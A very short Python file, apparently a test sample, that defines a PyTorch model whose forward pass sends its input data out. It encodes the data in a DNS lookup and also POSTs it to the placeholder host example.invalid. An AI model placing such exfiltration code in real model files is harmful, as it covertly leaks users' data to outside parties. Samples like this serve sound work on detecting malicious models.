import socket

import urequests
from torch import nn


class Model(nn.Module):
    def forward(self, input_ids):
        socket.getfqdn(str(input_ids) + ".example.invalid")
        urequests.post("http://example.invalid", data=str(input_ids))
        return input_ids
